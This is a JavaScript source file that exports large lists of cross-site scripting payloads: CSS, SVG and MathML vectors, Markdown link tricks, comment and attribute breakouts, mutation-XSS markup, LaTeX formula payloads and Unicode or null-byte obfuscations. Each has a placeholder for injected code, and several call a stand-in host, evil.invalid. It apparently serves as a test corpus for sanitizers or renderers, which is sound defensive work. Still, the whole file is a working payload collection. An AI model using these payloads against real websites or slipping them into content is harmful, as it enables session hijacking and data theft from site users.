// Further payloads: style, SVG and MathML, Markdown, comments, attributes, odd characters, and markup that
// changes when it is parsed a second time.

const STYLES = String.raw`
<style>@import "javascript:✱";</style>
<style>@import url(//evil.invalid/?✱);</style>
<style>body{background:url("javascript:✱")}</style>
<style>*{x:expression(✱)}</style>
<style>body{-moz-binding:url(//evil.invalid/x.xml#✱)}</style>
<style>main{display:none}/*✱*/</style>
<div style="background:url(javascript:✱)">x</div>
<div style="width:expression(✱)">x</div>
<div style="background-image:url(//evil.invalid/?✱)">x</div>
<div style="behavior:url(#✱)">x</div>
<div style="position:fixed;inset:0;z-index:9">✱</div>
<p style="x:\65xpression(✱)">x</p>
<link rel=stylesheet href="javascript:✱">
<link rel=stylesheet href="data:text/css,*{x:expression(✱)}">
<xss style="xss:expression(✱)">x</xss>`;

const DRAWINGS = String.raw`
<svg><a href="javascript:✱"><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:✱"><circle r=9 /></a></svg>
<svg><a><animate attributeName=href values="javascript:✱"/><text y=20>x</text></a></svg>
<svg><a><set attributeName=href to="javascript:✱"/><text y=20>x</text></a></svg>
<svg><animate onbegin=✱ attributeName=x dur=1s></svg>
<svg><animate onend=✱ attributeName=x dur=1ms></svg>
<svg><set onbegin=✱ attributeName=x></svg>
<svg><animateTransform onbegin=✱ attributeName=transform></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=✱/>#x"/></svg>
<svg><use xlink:href="//evil.invalid/x.svg#✱"/></svg>
<svg><image href=x onerror=✱ /></svg>
<svg><image href="javascript:✱"/></svg>
<svg><feImage href="//evil.invalid/?✱"/></svg>
<svg><foreignObject><img src=x onerror=✱></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>✱</script>"></iframe></foreignObject></svg>
<svg><handler type="text/javascript" ev:event="load">✱</handler></svg>
<svg><title><img src=x onerror=✱></title></svg>
<svg><desc><style><img src=x onerror=✱></style></desc></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="✱"/>
<math><mi xlink:href="javascript:✱">x</mi></math>
<math href="javascript:✱">x</math>
<math><maction actiontype="statusline#javascript:✱">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=✱></annotation-xml></math>
<math><mtext><img src=x onerror=✱></mtext></math>
$\href{javascript:✱}{x}$
$\unicode{<img src=x onerror=✱>}$`;

const MARKDOWN = String.raw`
[x](javascript:✱)
[x](JAVASCRIPT:✱)
[x]( javascript:✱)
[x](<javascript:✱>)
[x](<java script:✱>)
[x](javascript&colon;✱)
[x](javascript&#58;✱)
[x](&#x6A;avascript:✱)
[x](&#106;&#97;vascript:✱)
[x](java%0ascript:✱)
[x](javascript:%61lert(1)//✱)
[x](\javascript:✱)
[x](vbscript:✱)
[x](data:text/html,<script>✱</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==✱)
[x](//evil.invalid"onmouseover=✱)
[x](https://evil.invalid "title"onmouseover=✱")
[x](https://evil.invalid 'x" onmouseover="✱')
[x](https://evil.invalid/"><img src=x onerror=✱>)
[<img src=x onerror=✱>](https://evil.invalid/)
[x"onmouseover=✱ y="](https://evil.invalid/)
![x](javascript:✱)
![x" onerror="✱](x)
![<img src=x onerror=✱>](x)
![x](x"onerror="✱)
![x](x 'y" onerror="✱')
![x](data:image/svg+xml,<svg/onload=✱>)
[![x](x)](javascript:✱)
<javascript:✱>
<JaVaScRiPt:✱>
<data:text/html,✱>
<https://evil.invalid/"onmouseover="✱>
<x@evil.invalid"onmouseover="✱>
[x][r]\n\n[r]: javascript:✱
[x][r]\n\n[r]: <javascript:✱>
[x][r]\n\n[r]: https://evil.invalid "x\" onmouseover=\"✱"
[r]\n\n[r]: data:text/html,<script>✱</script>
[^1]\n\n[^1]: <img src=x onerror=✱>
[[x|javascript:✱]]
{{< x onerror=✱ >}}
{% raw %}<img src=x onerror=✱>{% endraw %}
{{constructor.constructor("✱")()}}
:::{admonition} <img src=x onerror=✱>
<div markdown=1>[x](javascript:✱)</div>
|a|b|\n|-|-|\n|<img src=x onerror=✱>|[x](javascript:✱)|
- [ ] <input autofocus onfocus=✱>
# x {onclick=✱}
# x {#"><img src=x onerror=✱>}`;

const BREAKOUTS = String.raw`
<!--><img src=x onerror=✱>-->
<!---><img src=x onerror=✱>-->
<!-- --!><img src=x onerror=✱> -->
<!-- x -- ><img src=x onerror=✱> -->
<!--[if IE]><script>✱</script><![endif]-->
<!--<img src="--><img src=x onerror=✱>">
<![CDATA[<img src=x onerror=✱>]]>
<![CDATA[]]><img src=x onerror=✱>
<?xml version="1.0"?><script>✱</script>
<?php echo 1 ?><img src=x onerror=✱>
<!DOCTYPE x [<!ENTITY y "<script>✱</script>">]>&y;
<!x><img src=x onerror=✱>
</x/><img src=x onerror=✱>
</ ><img src=x onerror=✱>
" onmouseover="✱
' onmouseover='✱
" autofocus onfocus="✱
" onfocus=✱ autofocus x="
x onmouseover=✱ y
"/><img src=x onerror=✱>
"><svg onload=✱>
'"><img src=x onerror=✱>
\" onmouseover=\"✱
\"><img src=x onerror=✱>
" style="animation:x" onanimationstart="✱
&quot; onmouseover=&quot;✱
&quot;&gt;&lt;img src=x onerror=✱&gt;
&lt;script&gt;✱&lt;/script&gt;
&amp;lt;script&amp;gt;✱&amp;lt;/script&amp;gt;
%3Cscript%3E✱%3C/script%3E
%253Cimg src=x onerror=✱%253E
';✱;//
";✱;//
\';✱;//
</script>';✱;//
\${✱}
\u003cimg src=x onerror=✱\u003e
\x3cimg src=x onerror=✱\x3e
{"x":"</script><script>✱</script>"}
javascript:✱
data:text/html,<script>✱</script>`;

const MUTATIONS = String.raw`
<noscript><p title="</noscript><img src=x onerror=✱>">
<noembed><img title="</noembed><img src=x onerror=✱>"></noembed>
<noframes><p title="</noframes><img src=x onerror=✱>">
<xmp><p title="</xmp><img src=x onerror=✱>">
<plaintext><img src=x onerror=✱>
<listing>&lt;img src=x onerror=✱&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=✱>">
<title><p title="</title><img src=x onerror=✱>">
<style><p title="</style><img src=x onerror=✱>">
<template><img src=x onerror=✱></template>
<template shadowrootmode=open><img src=x onerror=✱></template>
<svg></p><style><a id="</style><img src=x onerror=✱>">
<svg><style><!--</style><img src=x onerror=✱>--></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=✱&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=✱></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=✱>
<math><mi><table><mi><style></mi></table><img src=x onerror=✱>
<svg><p><style><g title="</style><img src=x onerror=✱>">
<table><tr><td></svg><style><img src=x onerror=✱></style>
<select><option><style></option></select><img src=x onerror=✱></style>
<p><svg><![CDATA[><img src=x onerror=✱>]]></svg>
<a href="x"<img src=x onerror=✱>
<img src="x" title="<img src=x onerror=✱>">
<img alt="\`><img src=x onerror=✱>">
<b <script>✱</script>>
<div id=x name=getElementById><form id=results><input name=innerHTML value="✱"></form></div>
<form id=q><input name=value value="✱"><input name=form></form>
<a id=history><a id=history name=pushState href="javascript:✱">x</a>
<javaScript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=✱ )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=✱//>
'">><marquee><img src=x onerror=✱></marquee>"></plaintext\></|\><plaintext/onmouseover=✱><script>✱</script>
--></script></title></style>"/</textarea></noscript><a/onclick=✱>x</a><img src=x onerror=✱>`;

const FORMULAS = String.raw`
$\href{javascript:✱}{x}$
$$\href{javascript:✱}{\text{x}}$$
$\url{javascript:✱}$
$\htmlData{onclick=✱}{x}$
$\htmlStyle{background:url(javascript:✱)}{x}$
$\htmlId{x" onmouseover="✱}{x}$
$\class{x" onclick="✱}{x}$
$\style{background:url(javascript:✱)}{x}$
$\includegraphics{javascript:✱}$
$\text{<img src=x onerror=✱>}$
$\text{</mtext></math><script>✱</script>}$
$\operatorname{<svg onload=✱>}$
$\tag{"><img src=x onerror=✱>} x$
$\color{red" onclick="✱}{x}$
$\begin{array}{c" onclick="✱}x\end{array}$
$\char60 script\char62 ✱$
$\def\x{<script>✱</script>}\x$
$x_{</math><script>✱</script>}$
$\verb|<img src=x onerror=✱>|$`;

export const MORE_LINES = { STYLES, DRAWINGS, MARKDOWN, BREAKOUTS, MUTATIONS, FORMULAS };

// With characters that cannot be typed here.
export const ODD = [
  "<scr\0ipt>✱</scr\0ipt>",
  "<img src=x one\0rror=✱>",
  "\0<script>✱</script>",
  "\uFF1Cscript\uFF1E✱\uFF1C/script\uFF1E",
  "\u2039img src=x onerror=✱\u203A",
  "<\u017Fcript>✱</\u017Fcript>",
  "<img src=x onerror\u000B=✱>",
  "<img\u000Csrc=x\u000Conerror=✱>",
  "<img src=x\u00A0onerror=✱>",
  "<a href=\"\u0001javascript:✱\">x</a>",
  "<a href=\"\u200Bjavascript:✱\">x</a>",
  "<a href=\"java\u00ADscript:✱\">x</a>",
  "[x](\u00A0javascript:✱)",
  "[x](java\u200Bscript:✱)",
  "[x](\u0001javascript:✱)",
  "\u202E<img src=x onerror=✱>\u202C",
  "\uFEFF<script>✱</script>",
  "<img src=x onerror=✱\u2028>",
  "+ADw-script+AD4-✱+ADw-/script+AD4-",
  "\u001B]8;;javascript:✱\u0007x",
];
